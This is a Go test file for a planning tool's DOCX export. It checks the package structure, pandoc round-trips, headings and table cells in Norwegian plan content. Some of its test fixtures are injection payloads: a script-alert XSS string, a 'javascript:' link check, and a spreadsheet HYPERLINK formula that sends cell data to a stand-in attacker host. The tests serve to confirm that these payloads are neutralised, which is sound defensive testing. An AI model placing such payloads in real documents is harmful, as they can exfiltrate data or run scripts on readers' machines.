package export_test

import (
	"archive/zip"
	"bytes"
	"encoding/xml"
	"io"
	"regexp"
	"strings"
	"testing"

	"github.com/temaplan/temaplan/export"
)

// unzip returns the parts of an OOXML package, failing on a part that is
// not well-formed XML.
func unzip(t *testing.T, data []byte) map[string]string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	parts := map[string]string{}
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(r)
		r.Close()
		if err != nil {
			t.Fatal(err)
		}
		dec := xml.NewDecoder(bytes.NewReader(b))
		for {
			_, err := dec.Token()
			if err == io.EOF {
				break
			}
			if err != nil {
				t.Fatalf("%s is not well-formed XML: %v", f.Name, err)
			}
		}
		parts[f.Name] = string(b)
	}
	return parts
}

// TestDOCX_ReadsBackWithPandoc converts the DOCX back with pandoc and
// finds the headings, the text's formats, lists and links, and the cells
// of the text's table, the measures, the scorecard and the economics.
func TestDOCX_ReadsBackWithPandoc(t *testing.T) {
	needTool(t, "pandoc", "pandoc")
	d := testDocument(t)
	d.Version, d.Hearing, d.HearingDeadline = "Høringsutkast", true, "2027-05-15"
	doc, err := export.DOCX(d)
	if err != nil {
		t.Fatal(err)
	}
	parts := unzip(t, doc)
	for _, p := range []string{"[Content_Types].xml", "word/document.xml", "word/styles.xml", "word/numbering.xml", "word/header1.xml", "word/footer1.xml"} {
		if parts[p] == "" {
			t.Errorf("the package lacks %s", p)
		}
	}
	if !strings.Contains(parts["word/document.xml"], `<w:instrText xml:space="preserve"> TOC \o "1-3" \h \z \u </w:instrText>`) {
		t.Error("no table of contents field")
	}
	if !strings.Contains(parts["word/header1.xml"], "Høringsutkast – høringsfrist 15. mai 2027") ||
		!strings.Contains(parts["word/footer1.xml"], `<w:fldSimple w:instr=" PAGE ">`) {
		t.Error("no hearing header or page number")
	}
	md := runTool(t, doc, "docx", "pandoc", "-f", "docx", "-t", "markdown", "--wrap=none")
	for _, want := range []string{
		"# 1 Innledning", "## 3.1 Analysedel", "### 3.1.1 Situasjonsbeskrivelse", "# 6 Målekort", "# 7 Økonomisk oversikt",
		"## " + introHeading, "**gode boliger**", "*alle*", "[Husbanken](https://www.husbanken.no/)",
		"-   Første punkt", "1.  Steg én", "2.  Steg to", "> Et sitat fra innbyggerundersøkelsen.",
		"**Tiltak: " + measureTitle + "**", "Tiltaket er slettet",
		`\<script\>alert(\'x\')\</script\> & farlig lenke`,
	} {
		if !strings.Contains(md, want) {
			t.Errorf("pandoc's markdown lacks %q", want)
		}
	}
	if strings.Contains(md, "javascript:") {
		t.Error("a javascript: link reached the DOCX")
	}
	// The tables, cell by cell.
	cells := tableCells(runTool(t, doc, "docx", "pandoc", "-f", "docx", "-t", "html", "--wrap=none"))
	for _, want := range [][]string{
		{tableCell, "312"},
		{measureTitle + " Målgruppe: Unge 20–35 år", "Boligkontoret", "2027–2030", "Høy", "Pågår", "1 800 000"},
		{"Nye boliger ferdigstilt per år Kilde: SSB, tabell 05940", "Et variert boligtilbud i alle deler av kommunen", "120 antall i 2024",
			"150 antall i 2027, 180 antall i 2030", "138 antall 31. desember 2025", "På sporet"},
		{"2028", "33 000 000", "800 000", "33 800 000"},
		{"Sum for perioden", "75 000 000", "2 150 001", "77 150 001"},
		{"Generell boligutvikling", "25 000 000", "1 800 000", "26 800 000"},
		{`=HYPERLINK("http://evil.example/?x="&A1,"Klikk") Boligsosiale forhold`, "2029", "0", "1", "1"},
	} {
		if !containsRow(cells, want) {
			t.Errorf("no table row %q among\n%q", want, cells)
		}
	}
}

// tableCells returns the rows of the tables of pandoc's HTML, each cell's
// text with its tags removed and its white space squashed.
func tableCells(html string) [][]string {
	tag := regexp.MustCompile(`<[^>]*>`)
	var rows [][]string
	for _, tr := range regexp.MustCompile(`(?s)<tr[^>]*>(.*?)</tr>`).FindAllStringSubmatch(html, -1) {
		var row []string
		for _, td := range regexp.MustCompile(`(?s)<t[hd][^>]*>(.*?)</t[hd]>`).FindAllStringSubmatch(tr[1], -1) {
			text := tag.ReplaceAllString(td[1], " ")
			for _, e := range [][2]string{{"&quot;", `"`}, {"&amp;", "&"}, {"&lt;", "<"}, {"&gt;", ">"}, {"&#39;", "'"}} {
				text = strings.ReplaceAll(text, e[0], e[1])
			}
			row = append(row, squash(text))
		}
		rows = append(rows, row)
	}
	return rows
}

func containsRow(rows [][]string, want []string) bool {
	for _, r := range rows {
		if len(r) >= len(want) && strings.Join(r[:len(want)], "|") == strings.Join(want, "|") {
			return true
		}
	}
	return false
}
